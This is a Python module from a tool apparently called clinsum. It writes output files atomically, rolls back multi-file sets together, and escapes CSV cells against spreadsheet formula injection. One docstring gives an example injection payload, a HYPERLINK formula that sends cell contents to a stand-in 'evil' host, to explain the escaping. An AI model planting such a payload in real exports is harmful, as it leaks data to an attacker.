"""Writing outputs: atomically, and CSV that is safe to open in a spreadsheet.

Every file clinsum writes goes through ``atomic_output`` (temporary file,
fsync, rename), and every CSV through ``write_csv`` / ``format_csv``, which
neutralise text cells a spreadsheet would run as formulas. ``clinsum.inputs``
re-exports these, so ``from clinsum.inputs import write_csv`` keeps working.

Files that belong together (``run --out``: summaries, scores, leaderboard) go
through ``output_set``, which writes them all before it puts any in place; what a
reader can see while it does is said in its docstring. ``output_files`` does the
same for files of different folders (``report --html PATH --md PATH``).
"""

from __future__ import annotations

import contextlib
import csv
import errno
import io
import json
import os
import re
import uuid
from collections.abc import Iterable, Iterator, Mapping, Sequence
from pathlib import Path
from typing import IO, Any, TypeVar

from pydantic import BaseModel

__all__ = ["OutputFiles", "OutputSet", "atomic_output", "format_csv", "output_files", "output_set",
           "spreadsheet_safe", "write_csv", "write_jsonl"]


@contextlib.contextmanager
def atomic_output(path: Path | str) -> Iterator[IO[str]]:
    """Open a text file that appears at ``path`` only when the block finishes without error.

    The content goes to a temporary file in the same folder, is flushed to disk
    and then renamed over ``path``, so a reader never sees a half-written file
    and a failure leaves any earlier version in place.
    """
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    temporary = path.with_name(f".{path.name}.{uuid.uuid4().hex[:12]}.tmp")
    with _on_disk(temporary) as handle:
        yield handle
    try:
        os.replace(temporary, path)
    except BaseException:
        with contextlib.suppress(FileNotFoundError):
            temporary.unlink()
        raise


@contextlib.contextmanager
def _on_disk(temporary: Path) -> Iterator[IO[str]]:
    """A new text file, flushed to disk when the block ends; removed if the block or the flush fails."""
    descriptor = os.open(temporary, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666)
    try:
        with open(descriptor, "w", encoding="utf-8", newline="") as handle:
            yield handle
            handle.flush()
            os.fsync(handle.fileno())
    except BaseException:
        with contextlib.suppress(FileNotFoundError):
            temporary.unlink()
        raise


class OutputFiles:
    """Files, in any folders, that are put in place together or not at all (see ``output_files``).

    Each file's temporary and backup sit in that file's own folder, so every rename stays on one
    file system; ``OutputSet`` is the same with every file named in one folder.
    """

    def __init__(self) -> None:
        self._token = uuid.uuid4().hex[:12]
        self._written: list[tuple[Path, Path]] = []
        """(temporary, final) of every file written whole, in the order they are put in place."""

    @contextlib.contextmanager
    def open(self, name: Path | str) -> Iterator[IO[str]]:
        """A text file of the set: written to a hidden temporary beside it, flushed to disk;
        it replaces ``name`` only when the whole set is put in place."""
        final = self._final(name)
        temporary = self._hidden(final, "tmp")
        with _on_disk(temporary) as handle:
            yield handle
        self._written.append((temporary, final))

    @contextlib.contextmanager
    def path(self, name: Path | str) -> Iterator[Path]:
        """A file of the set written by a library that wants a path (pyarrow): the block writes the
        hidden temporary it is given, which is flushed to disk and put in place with the set."""
        final = self._final(name)
        temporary = self._hidden(final, "tmp")
        try:
            yield temporary
            descriptor = os.open(temporary, os.O_RDONLY)
            try:
                os.fsync(descriptor)
            finally:
                os.close(descriptor)
        except BaseException:
            with contextlib.suppress(FileNotFoundError):
                temporary.unlink()
            raise
        self._written.append((temporary, final))

    def write_jsonl(self, name: Path | str, records: Iterable[BaseModel | Mapping[str, Any]]) -> int:
        with self.open(name) as handle:
            return _write_jsonl(handle, records)

    def write_csv(self, name: Path | str, header: Sequence[str],
                  rows: Iterable[Sequence[Any] | Mapping[str, Any]]) -> int:
        with self.open(name) as handle:
            return _write_csv(handle, header, rows)

    def _final(self, name: Path | str) -> Path:
        """The file ``name`` stands for, checked to be new to the set; its folder is created if missing."""
        final = Path(name)
        if any(os.path.abspath(final) == os.path.abspath(f) for _, f in self._written):
            raise ValueError(f"{str(name)!r}: not a new file name of this output set")
        final.parent.mkdir(parents=True, exist_ok=True)
        return final

    def _hidden(self, final: Path, kind: str) -> Path:
        return final.with_name(f".{final.name}.{self._token}.{kind}")

    def _put_in_place(self) -> None:
        """Rename every temporary over its file; on a failure, put every earlier file back.

        Before the first rename, each file that exists gets a second name (a hard link,
        ``.NAME.<token>.old`` in its folder: no data is copied), so that a rename failing
        half-way can restore the ones before it. Where the file system has no hard links, a
        file replaced before the failure cannot be restored, and the error says which.
        """
        existed = {final for _, final in self._written if final.exists()}
        kept: dict[Path, Path] = {}
        placed: list[Path] = []
        try:
            for final in existed:
                backup = self._hidden(final, "old")
                try:
                    os.link(final, backup)
                except OSError as exc:
                    if exc.errno not in _NO_HARD_LINKS:
                        raise
                else:
                    kept[final] = backup
            for temporary, final in self._written:
                os.replace(temporary, final)
                placed.append(final)
            for folder in dict.fromkeys(final.parent for _, final in self._written):
                _sync_folder(folder)
        except BaseException as exc:
            lost = _put_back(placed, existed, kept)
            if lost:
                exc.add_note(f"replaced before the failure and not restorable: {', '.join(lost)}")
            raise
        finally:
            for backup in kept.values():
                with contextlib.suppress(FileNotFoundError):
                    backup.unlink()

    def _discard(self) -> None:
        for temporary, _ in self._written:
            with contextlib.suppress(FileNotFoundError):
                temporary.unlink()


class OutputSet(OutputFiles):
    """Files of one folder that are put in place together, or not at all (see ``output_set``)."""

    def __init__(self, folder: Path) -> None:
        super().__init__()
        self.folder = folder

    def _final(self, name: Path | str) -> Path:
        final = self.folder / name
        if final.parent != self.folder:
            raise ValueError(f"{str(name)!r}: not a new file name of {self.folder}")
        return super()._final(final)


def _put_back(placed: list[Path], existed: set[Path], kept: dict[Path, Path]) -> list[str]:
    """Undo the renames done, newest first; returns the names that could not be restored."""
    lost = []
    for final in reversed(placed):
        try:
            if final in kept:
                os.replace(kept.pop(final), final)
            elif final not in existed:
                os.unlink(final)  # there was no such file before this set
            else:
                lost.append(str(final))  # no hard link was possible: its previous version is gone
        except OSError:
            lost.append(str(final))
    return lost


_NO_HARD_LINKS = {errno.EPERM, errno.ENOTSUP, errno.EOPNOTSUPP, errno.EXDEV, errno.EMLINK}


@contextlib.contextmanager
def output_set(folder: Path | str) -> Iterator[OutputSet]:
    """Write several files of ``folder`` so that they replace the previous ones together or not at all.

    Each file of the block (``files.open(name)``, ``files.write_jsonl``, ``files.write_csv``)
    goes to a hidden temporary in the folder (``.NAME.<token>.tmp``) and is flushed to
    disk. Only when the block has finished and every file is on disk are the temporaries
    renamed over their files, one after the other. Any failure before that (a full disk,
    a read-only folder, an exception, a signal) removes the temporaries and leaves every
    previous file untouched.

    POSIX has no rename of several files at once, so the set is not one atomic step.
    What a reader of the folder can see:

    - each file is always whole: its previous version (or none) or its new one;
    - for the time of the renames alone (no data is written then: microseconds, a few
      directory entries), some files are new while the later ones are still previous
      (or missing, the first time);
    - if a rename fails half-way (rare: the data is already on disk), the files renamed
      before it are put back (each existing file was hard-linked to ``.NAME.<token>.old``
      first), so the folder holds the previous set again, and the error is raised;
    - a process killed outright (SIGKILL, power loss) may leave hidden ``.tmp`` or
      ``.old`` files, and, if it died during the renames, a mix of new and previous
      files; clinsum never reads the hidden files.

    ``output_files`` is the same set over files named by their paths, in any folders.
    """
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    with _together(OutputSet(folder)) as files:
        yield files


@contextlib.contextmanager
def output_files() -> Iterator[OutputFiles]:
    """``output_set`` for files named by their paths, which may lie in different folders.

    ``clinsum report --html PATH --md PATH`` writes its two files this way: both new, or
    both as they were. Each file (``files.open(path)``, ``files.write_jsonl``,
    ``files.write_csv``) goes to a hidden temporary beside it (``.NAME.<token>.tmp``, its
    folder created if missing) and is flushed to disk; the renames, the hard-link backups
    (``.NAME.<token>.old``) and the rollback are those of ``output_set``, each in its
    file's own folder, so no rename crosses a file system. Every guarantee of
    ``output_set`` holds over all the folders: a failure before the renames (a full disk
    in any of the folders, a read-only folder, an exception, a signal) removes every
    temporary and leaves every previous file untouched; a rename failing half-way puts
    back the files renamed before it. A folder the block created stays, empty.
    """
    with _together(OutputFiles()) as files:
        yield files


_Files = TypeVar("_Files", bound=OutputFiles)


@contextlib.contextmanager
def _together(files: _Files) -> Iterator[_Files]:
    """Put the files of the block in place once it has finished; remove every temporary left."""
    try:
        yield files
        files._put_in_place()
    finally:
        files._discard()  # every temporary that was not renamed


def _sync_folder(folder: Path) -> None:
    """Flush the folder's entries (the renames) to disk, where the platform allows it."""
    try:
        descriptor = os.open(folder, os.O_RDONLY)
    except OSError:
        return
    try:
        os.fsync(descriptor)
    except OSError:
        pass  # some file systems refuse fsync on a folder; the renames are done all the same
    finally:
        os.close(descriptor)


def write_jsonl(path: Path | str, records: Iterable[BaseModel | Mapping[str, Any]]) -> int:
    """Write records (pydantic models or dicts) one JSON object a line, atomically; return the count."""
    with atomic_output(path) as handle:
        return _write_jsonl(handle, records)


def _write_jsonl(handle: IO[str], records: Iterable[BaseModel | Mapping[str, Any]]) -> int:
    count = 0
    for record in records:
        data = record.model_dump(mode="json") if isinstance(record, BaseModel) else dict(record)
        handle.write(json.dumps(data, ensure_ascii=False) + "\n")
        count += 1
    return count


def write_csv(path: Path | str, header: Sequence[str],
              rows: Iterable[Sequence[Any] | Mapping[str, Any]]) -> int:
    """Write a CSV atomically; rows are sequences or mappings keyed by the header; return the count.

    None becomes an empty cell, lists and dicts become JSON (so that
    :func:`read_rows` reads ``meta`` and ``key_concepts`` back). Text cells are
    safe to open in a spreadsheet (see :func:`spreadsheet_safe`).
    """
    with atomic_output(path) as handle:
        return _write_csv(handle, header, rows)


def format_csv(header: Sequence[str], rows: Iterable[Sequence[Any] | Mapping[str, Any]]) -> str:
    """The same CSV as :func:`write_csv`, as text (for standard output)."""
    buffer = io.StringIO()
    _write_csv(buffer, header, rows)
    return buffer.getvalue()


def _write_csv(handle: IO[str], header: Sequence[str], rows: Iterable[Sequence[Any] | Mapping[str, Any]]) -> int:
    writer = csv.writer(handle, lineterminator="\n")
    writer.writerow([spreadsheet_safe(name) for name in header])
    count = 0
    for row in rows:
        cells = [row.get(name) for name in header] if isinstance(row, Mapping) else list(row)
        if len(cells) != len(header):
            raise ValueError(f"row {count + 1} has {len(cells)} cells, the header has {len(header)}")
        writer.writerow([_csv_cell(cell) for cell in cells])
        count += 1
    return count


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?\Z")


def spreadsheet_safe(text: str) -> str:
    """Text a spreadsheet will not run as a formula: ``'`` before a leading = + - @ (or tab, CR).

    A system name such as ``=HYPERLINK("http://evil/?"&A1)`` would otherwise run
    when the CSV is opened. Text that reads as a plain number (``-0.5``) is left
    alone: it is a number to the spreadsheet too. JSONL outputs are the lossless
    format; CSV is for people and spreadsheets.
    """
    if not text.startswith(_FORMULA_START) or _PLAIN_NUMBER.match(text):
        return text
    return "'" + text


def _csv_cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, dict | list):
        return json.dumps(value, ensure_ascii=False)
    if isinstance(value, str):
        return spreadsheet_safe(value)
    return value
